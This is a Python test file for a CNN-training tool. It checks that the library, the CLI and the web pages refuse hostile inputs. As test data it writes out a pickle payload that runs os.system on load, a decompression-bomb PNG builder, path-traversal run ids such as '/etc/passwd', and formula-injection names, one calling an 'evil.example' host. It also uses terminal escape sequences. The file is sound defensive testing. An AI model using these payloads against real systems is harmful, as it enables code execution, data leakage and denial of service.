"""Hostile and damaged files: code-running, foreign, truncated and empty checkpoints; run.json and
metrics.jsonl that are not what they claim; hostile uploads; run ids and names that try to leave the
runs folder. Each is refused (or skipped) with a message, by the library, the CLI and the pages."""
from __future__ import annotations

import ast
import json
import os
import shutil
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import numpy as np
import pytest
import torch
from pagekit import page_file, shown
from PIL import Image
from streamlit.testing.v1 import AppTest
from test_draw_page import canvas_state, drawn_one, fake_run

from cnn_core.analysis import predict, snapshots
from cnn_core.cli import entry
from cnn_core.nets.architectures import build_model
from cnn_core.runs import archive, checkpoints, metrics_log, store
from cnn_core.runs.checkpoints import CheckpointError

ROOT = Path(__file__).resolve().parents[2]
TIMEOUT = 90
PRODUCT = ["cnn_core", "ui", "scripts", "bench", "dashboard.py"]   # code a user runs


def _app(page: str, run: str | None = None, **state) -> AppTest:
    at = AppTest.from_file(page_file(page), default_timeout=TIMEOUT)
    if run is not None:
        at.query_params["run"] = run
    for k, v in state.items():
        at.session_state[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def _texts(at: AppTest, *kinds: str) -> str:
    return "\n".join(shown(e.value) for kind in kinds for e in getattr(at, kind))


def _cli(argv: list[str], capsys) -> tuple[int, str, str]:
    try:
        rc = entry.main(argv)
    except SystemExit as exc:
        rc = exc.code
    out = capsys.readouterr()
    return rc, out.out, out.err


def _one_line_error(err: str, *words: str) -> None:
    """The CLI's failure shape: exactly one line 'error: ...' holding `words`, no traceback."""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
    for w in words:
        assert w in lines[0], err


def _digit_png(tmp_path: Path) -> Path:
    digit = np.zeros((28, 28), dtype=np.uint8)
    digit[6:22, 12:16] = 255
    file = tmp_path / "digit.png"
    Image.fromarray(digit).save(file)
    return file


# ---- code-running checkpoints -------------------------------------------------------------------
class _Evil:
    """Unpickling this runs a shell command that creates the marker file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _evil(file: Path, marker: Path) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"model": {}, "format": checkpoints.MODEL_FORMAT, "x": _Evil(marker)}, file)


@pytest.fixture
def evil_run(runs_dir, tmp_path):
    """A completed MNIST run whose best.pt, checkpoint.pt and epoch-1 snapshot each pickle os.system."""
    path = fake_run(runs_dir)
    marker = tmp_path / "pwned"
    for name in (store.BEST, store.CHECKPOINT, "snapshots/epoch-001.pt"):
        _evil(path / name, marker)
    return path, marker


def test_evil_payload_is_live(tmp_path):
    """The payload the tests use does run code when loaded without weights_only (the tests are not vacuous)."""
    marker = tmp_path / "ran"
    _evil(tmp_path / "evil.pt", marker)
    torch.load(tmp_path / "evil.pt", weights_only=False)
    assert marker.exists()


REFUSED = "was refused: it contains objects other than tensors and plain data"
LOADERS = {
    "load_checkpoint": lambda p: checkpoints.load_checkpoint(p / store.BEST),
    "load_model-best": lambda p: predict.load_model(p),
    "load_model-latest": lambda p: predict.load_model(p, which="latest"),
    "inspect-snapshots": lambda p: [snapshots.load_weights(w) for w in snapshots.weights_choices(p)],
    "import-zip": lambda p: archive.import_run(archive.zip_run(p), p.parent.parent / "other-runs"),
    "import-folder": lambda p: archive.import_run(p, p.parent.parent / "other-runs"),
}


@pytest.mark.parametrize("loader", LOADERS)
def test_code_running_checkpoint_refused_by_every_loader(loader, evil_run):
    """Each loader the product uses refuses the file with a message saying why; the code never runs."""
    path, marker = evil_run
    with pytest.raises(ValueError) as err:   # CheckpointError and ImportRefused are ValueErrors
        LOADERS[loader](path)
    assert "refused" in str(err.value) and "other than tensors" in str(err.value), err.value
    assert not marker.exists()
    assert not (path.parent.parent / "other-runs").exists() or \
        not [p for p in (path.parent.parent / "other-runs").iterdir() if not p.name.startswith(".")]


def test_code_running_checkpoint_refused_by_cli_predict(evil_run, tmp_path, capsys):
    """`predict --run` exits 1 with one line naming the refused file."""
    path, marker = evil_run
    rc, out, err = _cli(["predict", "--run", path.name, str(_digit_png(tmp_path))], capsys)
    assert rc == 1 and out == ""
    _one_line_error(err, "best.pt", REFUSED)
    assert not marker.exists()


def test_code_running_checkpoint_refused_by_inspect_and_draw_pages(evil_run, monkeypatch, tmp_path):
    """Inspect (?run=) and Draw (the run picked, a digit drawn) show the refusal as an error, run nothing."""
    path, marker = evil_run
    at = _app("inspect.py", run=path.name)
    assert "These weights cannot be loaded" in _texts(at, "error") and REFUSED in _texts(at, "error")
    monkeypatch.setattr(predict, "BUNDLED_MNIST", fake_run(tmp_path / "models"))
    at = AppTest.from_file(page_file("draw"), default_timeout=TIMEOUT)
    at.session_state["draw.canvas.0"] = canvas_state(drawn_one())
    at.session_state["draw.run"] = str(path)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.selectbox(key="draw.run").value == str(path)
    assert REFUSED in _texts(at, "error") and not [m for m in at.markdown if "Prediction:" in m.value]
    assert not marker.exists()


def _calls(tree: ast.AST, dotted: str):
    """Every call of `dotted` (e.g. 'torch.load') in a module's syntax tree."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and ast.unparse(node.func) == dotted:
            yield node


def test_every_torch_load_in_the_product_uses_weights_only():
    """Scan the source: each torch.load passes weights_only=True; nothing calls pickle.load(s) but the
    CIFAR reader's allow-list unpickler; torch.jit.load only reads back the export it has just written."""
    files = [f for p in PRODUCT for f in ((ROOT / p).rglob("*.py") if (ROOT / p).is_dir() else [ROOT / p])]
    loads, jit, pickles = [], [], []
    for file in files:
        tree = ast.parse(file.read_text(), str(file))
        where = str(file.relative_to(ROOT))
        for call in _calls(tree, "torch.load"):
            safe = any(k.arg == "weights_only" and isinstance(k.value, ast.Constant) and k.value.value is True
                       for k in call.keywords)
            loads.append((where, call.lineno, safe))
        jit += [where for _ in _calls(tree, "torch.jit.load")]
        pickles += [where for name in ("pickle.load", "pickle.loads") for _ in _calls(tree, name)]
    assert loads and all(safe for *_, safe in loads), [x for x in loads if not x[2]]
    assert {w for w, *_ in loads} >= {"cnn_core/runs/checkpoints.py", "cnn_core/data/catalog.py"}
    assert jit == ["cnn_core/export/formats.py"] and pickles == []


# ---- checkpoints that do not fit ----------------------------------------------------------------
def _meta(arch: str, classes: int, shape=(1, 28, 28)) -> dict:
    return {"arch": arch, "arch_params": {}, "input_shape": list(shape), "num_classes": classes,
            "classes": [str(i) for i in range(classes)], "mean": [0.13] * shape[0], "std": [0.31] * shape[0],
            "dataset": "mnist"}


def _save(file: Path, weights_of: torch.nn.Module, meta: dict) -> None:
    checkpoints.save_atomic(checkpoints.model_record(weights_of, meta), file)


MISFITS = {   # best.pt of a lenet/mnist (10 classes) run replaced by ... -> words of the message
    "weights-of-another-arch": (lambda: (build_model("mlp", (1, 28, 28), 10), _meta("lenet", 10)),
                                "these weights do not fit lenet with 10 classes"),
    "weights-of-another-class-count": (lambda: (build_model("lenet", (1, 28, 28), 2), _meta("lenet", 10)),
                                       "tensor(s) of another shape (e.g. classifier.fc2.weight (2, 50) vs (10, 50))"),
    "best-pt-of-an-mlp-run": (lambda: (build_model("mlp", (1, 28, 28), 10), _meta("mlp", 10)),
                              "architecture 'mlp' (the run's is 'lenet')"),
    "best-pt-of-a-2-class-run": (lambda: (build_model("lenet", (3, 32, 32), 2), _meta("lenet", 2, (3, 32, 32))),
                                 "2 classes (the run has 10); input [3, 32, 32] (the run's is [1, 28, 28])"),
}


@pytest.mark.parametrize("case", MISFITS)
def test_checkpoint_for_another_model_names_the_misfit(case, runs_dir, tmp_path, capsys):
    """predict.load_model and `predict --run` refuse a best.pt made for another architecture or class count
    with a message naming what does not fit (CLI: exit 1, one line)."""
    path = fake_run(runs_dir)
    model, meta = MISFITS[case][0]()
    _save(path / store.BEST, model, meta)
    with pytest.raises(CheckpointError) as err:
        predict.load_model(path)
    assert MISFITS[case][1] in str(err.value)
    rc, out, err_text = _cli(["predict", "--run", path.name, str(_digit_png(tmp_path))], capsys)
    assert rc == 1 and out == ""
    _one_line_error(err_text, MISFITS[case][1])


# ---- truncated and empty checkpoints ------------------------------------------------------------
@pytest.mark.parametrize("cut,words", [(0, "is empty (0 bytes)"), (700, "is corrupt or truncated")],
                         ids=["zero-bytes", "truncated"])
def test_truncated_or_empty_checkpoint_is_one_clear_line(cut, words, runs_dir, tmp_path, capsys):
    """load_model raises CheckpointError naming the file; the CLI exits 1 with one 'error:' line."""
    path = fake_run(runs_dir)
    whole = (path / store.BEST).read_bytes()
    (path / store.BEST).write_bytes(whole[:cut])
    with pytest.raises(CheckpointError) as err:
        predict.load_model(path)
    assert f"checkpoint {path / store.BEST} {words}" in str(err.value)
    rc, out, err = _cli(["predict", "--run", path.name, str(_digit_png(tmp_path))], capsys)
    assert rc == 1 and out == ""
    _one_line_error(err, f"checkpoint {path / store.BEST} {words}")


# ---- run.json that is not a run -----------------------------------------------------------------
BAD_RECORDS = {
    "not-json": (b"{ not json", "is not valid JSON"),
    "a-json-list": (b"[1, 2, 3]", "is not a run record"),
    "no-config": (json.dumps({"id": "x", "status": "completed"}).encode(), "is not a run record"),
    "config-a-list": (json.dumps({"config": [1], "status": "completed"}).encode(), "config of the wrong type"),
    "created-a-number": (json.dumps({"config": {}, "status": "completed", "created": 5, "summary": "x"}).encode(),
                         "created, summary of the wrong type"),
}


def _bad_runs(runs_dir: Path) -> dict[str, Path]:
    """One good completed run plus one run folder per kind of bad run.json; name -> folder."""
    good = fake_run(runs_dir)
    out = {"good": good}
    for name, (raw, _) in BAD_RECORDS.items():
        folder = runs_dir / f"bad-{name}"
        shutil.copytree(good, folder)
        (folder / store.RUN_JSON).write_bytes(raw)
        out[name] = folder
    return out


@pytest.mark.parametrize("name", BAD_RECORDS)
def test_bad_run_json_is_listed_corrupt_by_the_cli(name, runs_dir, capsys):
    """`runs list` exits 0 and lists the run as corrupt; `runs show` exits 1 with one line saying why."""
    folders = _bad_runs(runs_dir)
    rc, out, err = _cli(["runs", "list"], capsys)
    assert rc == 0 and err == ""
    line = next(li for li in out.splitlines() if li.startswith(f"bad-{name} "))
    assert line.split()[1] == "corrupt"
    assert any(li.startswith(folders["good"].name) and "completed" in li for li in out.splitlines())
    rc, out, err = _cli(["runs", "show", f"bad-{name}"], capsys)
    assert rc == 1 and out == ""
    _one_line_error(err, BAD_RECORDS[name][1])


def test_bad_run_json_pages_render_and_say_unreadable(runs_dir):
    """Compare, Inspect and Train render with every kind of bad run.json present and say which runs cannot
    be read; the good run still opens."""
    folders = _bad_runs(runs_dir)
    bad_ids = [f"bad-{n}" for n in BAD_RECORDS]
    text = _texts(_app("compare.py"), "warning")
    assert f"{len(bad_ids)} run(s) cannot be read" in text and all(i in text for i in bad_ids), text
    at = _app("inspect.py")
    assert all(i in _texts(at, "caption") for i in bad_ids) and "cannot be read" in _texts(at, "caption")
    assert at.selectbox(key="inspect.run").value == folders["good"].name
    at = _app("inspect.py", run="bad-not-json")
    assert "Run 'bad-not-json' cannot be read" in _texts(at, "warning") and "not valid JSON" in _texts(at, "warning")
    at = _app("train.py", run="bad-a-json-list")
    assert "Run bad-a-json-list cannot be read" in _texts(at, "warning")
    assert "is not a run record" in _texts(at, "warning")
    labels = at.selectbox(key="train.watch").options
    assert sum(label.endswith("— corrupt") for label in labels) == len(bad_ids), labels


# ---- metrics.jsonl with garbage lines -----------------------------------------------------------
def _epoch(e: int, val_acc: float) -> bytes:
    return json.dumps({"kind": "epoch", "step": 4 * e, "epoch": e, "train_loss": 1 / e, "train_acc": 0.5,
                       "val_loss": 1.2 / e, "val_acc": val_acc, "lr": 0.01, "images_per_sec": 500.0,
                       "time": 2.0 * e}).encode()


GARBAGE = [b"\x00\x01\x02\xff\xfe binary", b"[1, 2, 3]", b'"just a string"', b'{"step": 3, "loss": 0.1}',
           b"\xc3\x28 invalid utf-8 \xa0\xa1", b'{"kind": "epoch", "step": 9, "epoch": 9, "val_acc": "high"}',
           b'{"kind": ["step"], "step": 1}', b"{\"kind\": \"step\", \"loss\": 0.5}"]


@pytest.fixture
def garbage_metrics_run(runs_dir) -> Path:
    """A completed run whose metrics.jsonl has epochs 1 and 2 between garbage lines and a torn last line."""
    path = fake_run(runs_dir)
    lines = [_epoch(1, 0.7), *GARBAGE, _epoch(2, 0.9), _epoch(3, 0.8)[:40]]
    (path / store.METRICS).write_bytes(b"\n".join(lines))
    store.update_run(path, summary={"best_epoch": 2}, progress={"epoch": 2, "epochs": 2, "step": 8,
                                                               "total_steps": 8, "steps_per_epoch": 4})
    return path


def test_metrics_readers_skip_garbage(garbage_metrics_run, capsys):
    """read_metrics keeps exactly the two whole epochs; `runs show` prints them and marks the best."""
    assert [(m["kind"], m["epoch"]) for m in metrics_log.read_metrics(garbage_metrics_run)] == [("epoch", 1), ("epoch", 2)]
    rc, out, err = _cli(["runs", "show", garbage_metrics_run.name], capsys)
    assert rc == 0 and err == ""
    rows = [li.split() for li in out.splitlines() if li[:5].strip().isdigit()]
    assert [r[0] for r in rows] == ["1", "2"] and out.count("<- best") == 1
    assert rows[1][4] == "0.9000" and rows[1][-2:] == ["<-", "best"]


def test_metrics_garbage_pages_still_draw_the_epochs(garbage_metrics_run):
    """Train's live panel draws its loss, learning-rate and accuracy charts; Compare overlays the run's curves."""
    at = _app("train.py", run=garbage_metrics_run.name)
    charts = {c.key: c for c in at.get("plotly_chart")}
    assert set(charts) == {"train.chart.loss", "train.chart.lr", "train.chart.acc"} and not at.error
    acc = json.loads(charts["train.chart.acc"].proto.spec)
    assert [list(t.get("x", [])) for t in acc["data"] if t.get("mode", "").startswith("lines")][0] == [1, 2]
    at = _app("compare.py", **{"compare.pick": [garbage_metrics_run.name]})
    assert len(at.get("plotly_chart")) >= 2 and not at.error


# ---- hostile uploads on the Draw page -----------------------------------------------------------
def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _bomb_png(side: int = 20000) -> bytes:
    """A real 1-bit PNG of side x side black pixels, a few tens of kB: 400 million pixels once decoded."""
    row = b"\x00" + b"\x00" * (side // 8)
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


UPLOADS = {   # name: (file name, bytes, words of the message)
    "not-an-image": ("digit.png", b"%PDF-1.4 this is a PDF, not a PNG", "the file is not an image that can be read"),
    "over-10-mb": ("digit.png", b"\x89PNG" + b"\x00" * (11 * 2**20), "the file is 11.0 MB; the limit is 10 MB"),
    "decompression-bomb": ("digit.png", None, "refused as a decompression bomb (Image size (400000000 pixels)"),
    "zero-bytes": ("digit.png", b"", "the file is empty (0 bytes)"),
}


@pytest.fixture(scope="module")
def bomb() -> bytes:
    raw = _bomb_png()
    assert len(raw) < 200_000     # small on disk, huge once decoded
    return raw


@pytest.mark.parametrize("case", UPLOADS)
def test_hostile_upload_refused_by_the_library(case, bomb):
    """The two readers of an upload (the Draw page's and the CLI's) refuse it with the same clear message."""
    _, raw, words = UPLOADS[case]
    raw = bomb if raw is None else raw
    for read in (predict.ink_from_upload,
                 lambda r: predict.image_for_model(r, {"dataset": "cifar10", "input_shape": [3, 32, 32]})):
        with pytest.raises(ValueError) as err:
            read(raw)
        assert words in str(err.value), err.value


def test_hostile_uploads_on_the_draw_page(bomb, monkeypatch, tmp_path):
    """Each hostile file uploaded on the Draw page gives its message as an error and no prediction."""
    monkeypatch.setattr(predict, "BUNDLED_MNIST", fake_run(tmp_path / "models"))
    at = _app("draw.py")
    at.button_group(key="draw.source").set_value("Upload").run()
    for case, (name, raw, words) in UPLOADS.items():
        at.file_uploader(key="draw.upload").set_value((name, bomb if raw is None else raw, "image/png")).run()
        assert not at.exception, (case, [e.value for e in at.exception])
        errors = _texts(at, "error")
        assert words[1:] in errors and errors[0].isupper(), (case, errors)    # the page capitalizes it
        assert not [m for m in at.markdown if "Prediction:" in m.value], case


# ---- run ids and names that try to leave the runs folder ----------------------------------------
HOSTILE_IDS = ["../x", "../../etc", "/etc/passwd", "a/b", "/", "x\x00y", "a" * 300, "", "   ", "..", "../sentinel"]


@pytest.fixture
def sentinel(runs_dir) -> Path:
    """A run folder next to the runs folder (run.json and best.pt): nothing may change or delete it, and
    nothing reads it but a read-only CLI command that names it explicitly."""
    runs_dir.mkdir(parents=True, exist_ok=True)
    folder = fake_run(runs_dir.parent / "outside")
    target = runs_dir.parent / "sentinel"
    folder.rename(target)
    return target


def _untouched(sentinel: Path, before: bytes) -> bool:
    return (sentinel / store.RUN_JSON).read_bytes() == before and (sentinel / store.BEST).is_file()


@pytest.mark.parametrize("bad", HOSTILE_IDS, ids=lambda b: repr(b)[:24])
def test_hostile_run_id_refused_by_the_library(bad, sentinel, runs_dir, monkeypatch):
    """validate_run_id and run_dir refuse it; resolve_run refuses it (from the runs folder too, where
    '../sentinel' would reach a real run folder)."""
    monkeypatch.chdir(runs_dir)
    with pytest.raises(ValueError, match="invalid run id"):
        store.validate_run_id(bad)
    with pytest.raises(ValueError, match="invalid run id"):
        store.run_dir(bad)
    with pytest.raises(ValueError, match="invalid run id|in the runs folder: it lies outside|no run at"):
        store.resolve_run(bad)
    with pytest.raises(ValueError):
        predict.load_model(bad)
    with pytest.raises(ValueError, match="in the runs folder: it lies outside"):
        store.resolve_run(str(sentinel))


@pytest.mark.parametrize("name,words", [("x" * 300, "at most 120 characters, got 300"), ("", "cannot be empty"),
                                        ("   ", "cannot be empty"), ("\x00\x00", "cannot be empty")],
                         ids=["300-chars", "empty", "spaces", "nul"])
def test_bad_run_name_refused(name, words, runs_dir, capsys):
    """clean_name, rename_run and `runs rename` refuse it; the run keeps its name."""
    path = fake_run(runs_dir)
    before = store.read_run(path).name
    with pytest.raises(ValueError, match=words):
        store.clean_name(name)
    with pytest.raises(ValueError, match=words):
        store.rename_run(path, name)
    rc, out, err = _cli(["runs", "rename", path.name, name], capsys)
    assert rc == 1 and out == ""
    _one_line_error(err, words)
    assert store.read_run(path).name == before


def test_path_like_name_is_only_a_label(runs_dir, sentinel):
    """A name such as '../sentinel' or one with a NUL is display text: cleaned, stored, never a path."""
    path = fake_run(runs_dir)
    assert store.clean_name("a\x00b/../c") == "ab/../c"
    store.rename_run(path, "../sentinel")
    assert store.read_run(path).name == "../sentinel" and path.is_dir()
    assert sorted(p.name for p in runs_dir.parent.iterdir()) == ["outside", "runs", "sentinel"]


CLI_ESCAPES = [
    (["runs", "delete", "../sentinel"], "in the runs folder: it lies outside"),
    (["runs", "delete", "../../etc"], "in the runs folder: it lies outside"),
    (["runs", "delete", "SENTINEL"], "in the runs folder: it lies outside"),
    (["runs", "rename", "../sentinel", "mine now"], "in the runs folder: it lies outside"),
    (["runs", "cancel", "../sentinel"], "in the runs folder: it lies outside"),
    (["runs", "show", ""], "invalid run id"),
    (["runs", "show", "x\x00y"], "invalid run id"),
    (["runs", "delete", ".."], "invalid run id"),
    (["train", "--resume", "../sentinel"], "in the runs folder: it lies outside"),
]


@pytest.mark.parametrize("argv,words", CLI_ESCAPES, ids=[" ".join(a)[:40] for a, _ in CLI_ESCAPES])
def test_cli_refuses_paths_outside_the_runs_folder(argv, words, sentinel, runs_dir, tmp_path, monkeypatch, capsys):
    """Run from inside the runs folder, so '../sentinel' names the real run folder beside it: exit 1, one
    line, and the sentinel's files are untouched."""
    monkeypatch.chdir(runs_dir)
    before = (sentinel / store.RUN_JSON).read_bytes()
    argv = [str(sentinel) if a == "SENTINEL" else str(_digit_png(tmp_path)) if a == "IMAGE" else a for a in argv]
    rc, out, err = _cli(argv, capsys)
    assert rc == 1 and out == ""
    _one_line_error(err, words)
    assert _untouched(sentinel, before)


@pytest.mark.parametrize("argv", [["runs", "show", "../sentinel"], ["predict", "--run", "../sentinel", "IMAGE"]],
                         ids=["runs show", "predict"])
def test_cli_reads_a_run_folder_named_outside_but_changes_nothing(argv, sentinel, runs_dir, tmp_path, monkeypatch,
                                                                  capsys):
    """Read-only commands take a run folder the person names on the command line wherever it lies (as
    `predict --run models/mnist-bundled` needs): `runs show` prints it, `predict` reads its best.pt
    (weights_only) and prints the top-3. The sentinel's files are untouched."""
    monkeypatch.chdir(runs_dir)
    before = (sentinel / store.RUN_JSON).read_bytes()
    argv = [str(_digit_png(tmp_path)) if a == "IMAGE" else a for a in argv]
    rc, out, err = _cli(argv, capsys)
    assert rc == 0 and not err, err
    assert (store.read_run(sentinel).id in out) if argv[0] == "runs" else out.startswith(f"{argv[-1]}: ")
    assert _untouched(sentinel, before)


def test_real_cli_delete_outside_refused(sentinel, runs_dir):
    """`python -m cnn_core runs delete ../sentinel` as a process, from inside the runs folder: refused."""
    before = (sentinel / store.RUN_JSON).read_bytes()
    out = subprocess.run([sys.executable, "-m", "cnn_core", "runs", "delete", "../sentinel"], cwd=runs_dir,
                         env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)
    assert out.returncode == 1 and "in the runs folder: it lies outside" in out.stderr, out.stderr
    assert _untouched(sentinel, before)


@pytest.mark.parametrize("page", ["train.py", "inspect.py"])
def test_hostile_run_query_parameter_on_pages(page, sentinel, runs_dir):
    """?run=../sentinel: Inspect warns there is no such run, Train falls back to a run of the runs folder;
    neither shows the sentinel's run."""
    good = fake_run(runs_dir)
    before = (sentinel / store.RUN_JSON).read_bytes()
    at = _app(page, run="../sentinel")
    key = "inspect.run" if page == "inspect.py" else "train.watch"
    assert at.selectbox(key=key).value == good.name and at.query_params["run"] == good.name
    if page == "inspect.py":
        assert "There is no run '../sentinel' in the runs folder" in _texts(at, "warning")
    assert str(sentinel) not in _texts(at, "markdown", "caption", "warning", "error", "info")
    assert _untouched(sentinel, before)


# ---- classify many's CSV in a spreadsheet (issue 27, item 8) -------------------------------------------
FORMULA_NAMES = ['=HYPERLINK("evil.example?"&A1,"click").png', "+1+cmd.png", "-2+3.png", "@SUM(A1).png",
                 "\tx.png", "\rx.png"]


@pytest.mark.skipif(not (predict.BUNDLED_MNIST / store.BEST).is_file(), reason="needs models/mnist-bundled")
def test_classify_many_csv_writes_formula_like_names_as_text():
    """Classify many's CSV: a cell starting with = + - @ tab or CR gets a leading quote; others are as read."""
    import csv
    import io
    import zipfile

    png = io.BytesIO()
    Image.fromarray(np.pad(np.full((16, 4), 255, np.uint8), ((6, 6), (12, 12)))).save(png, "PNG")   # a "1"
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as zf:
        for name in FORMULA_NAMES + ["7/ok.png"]:
            zf.writestr(name, png.getvalue())
    model, meta = predict.load_model(predict.BUNDLED_MNIST)
    result = predict.classify_many(model, meta, [("names.zip", zipped.getvalue())])
    rows = list(csv.DictReader(io.StringIO(result.to_csv())))
    assert sorted(r["file"] for r in rows) == sorted(["'" + n for n in FORMULA_NAMES] + ["7/ok.png"])
    assert list(rows[0]) == ["file", "label", "correct", "top1", "p1", "top2", "p2", "top3", "p3"]


@pytest.mark.skipif(not (predict.BUNDLED_MNIST / store.BEST).is_file(), reason="needs models/mnist-bundled")
def test_the_cli_shows_hostile_names_inert_and_writes_its_csv_as_text(tmp_path):
    """`predict ZIP --csv`: a zip entry named with a terminal escape sequence is printed with the escape shown
    (\\x1b), not sent to the terminal, and the CSV's formula-like cells are text, as on the page."""
    import csv
    import io
    import zipfile

    png = io.BytesIO()
    Image.fromarray(np.pad(np.full((16, 4), 255, np.uint8), ((6, 6), (12, 12)))).save(png, "PNG")
    names = ["\x1b]0;owned\x07title.png", "\x1b[2Jclear.png", *FORMULA_NAMES[:4]]
    with zipfile.ZipFile(tmp_path / "names.zip", "w") as zf:
        for name in names:
            zf.writestr(name, png.getvalue())
    out = subprocess.run([sys.executable, "-m", "cnn_core", "predict", "--run", str(predict.BUNDLED_MNIST),
                          str(tmp_path / "names.zip"), "--csv", str(tmp_path / "out.csv")], cwd=ROOT,
                         capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout + out.stderr and "\x07" not in out.stdout
    assert "\\x1b]0;owned\\x07title.png:" in out.stdout and "\\x1b[2Jclear.png:" in out.stdout
    cells = sorted(r["file"] for r in csv.DictReader(open(tmp_path / "out.csv", newline="")))
    assert cells == sorted(["'" + n for n in FORMULA_NAMES[:4]] + names[:2])
